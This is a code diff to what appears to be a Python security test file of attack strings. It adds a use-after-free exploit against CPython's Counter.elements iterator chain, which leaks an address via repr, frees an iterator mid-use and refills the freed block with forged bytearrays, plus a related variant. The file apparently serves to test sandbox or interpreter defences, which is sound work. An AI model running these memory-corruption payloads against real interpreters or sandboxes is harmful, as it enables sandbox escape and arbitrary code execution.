@@ -137,6 +137,9 @@ _MADE |= {
         "class", "from typing import NamedTuple\nclass", 1
     )
     + "it = zip(Items(1))",
+    # chain and starmap of collections' own
+    "counter_elements": "from collections import Counter\nclass C(Counter):\n    def items(self):\n"
+    "        return zip(map(again, 'abcdef'), (1,) * 6)\nit = C().elements()",
 }
 _OVER_ITEMS = """
 def le(*n):
@@ -168,5 +171,34 @@ memory = forge(base - 32)
 at = address(len) + 24 - base
 LOOT = forge(int.from_bytes(memory[at:at + 8], "little"))
 """
-ATTACKS = {"use_after_free": _FORGE, "use_after_free_over_items": _OVER_ITEMS} | {name: _AGAIN.format(make=make) for name, make in _MADE.items()}
+_OF_COUNTER = """
+from collections import Counter
+held = []
+LOOT = None
+shown = repr(dict.fromkeys)  # <built-in method fromkeys of type object at 0x...>, the address of dict
+called = int(shown[shown.rindex("0x"):].rstrip(">"), 16)
+class Items:
+    depth = 0
+    def __iter__(self):
+        return self
+    def __next__(self):
+        Items.depth += 1
+        if Items.depth > 1:
+            raise StopIteration
+        try:
+            next(it)  # it ends: chain lets go of the starmap, which is asking
+        except StopIteration:
+            pass
+        for _ in range(6):  # its block: the head, the references, the type, the function, the iterator
+            held.append(bytearray(bytes(16) + (1000).to_bytes(8, "little") + bytes(8) + called.to_bytes(8, "little") + bytes(7)))
+        return ([("forged", "call")],)
+class C(Counter):
+    def items(self):
+        return Items()
+it = C().elements()
+if next(it) == "forged":
+    LOOT = CANARY
+"""
+ATTACKS = {"use_after_free": _FORGE, "use_after_free_over_items": _OVER_ITEMS, "use_after_free_of_a_counter": _OF_COUNTER}
+ATTACKS |= {name: _AGAIN.format(make=make) for name, make in _MADE.items()}
 CONTROLS = {"use_after_free": "def print():\n    pass\n" + _FORGE}
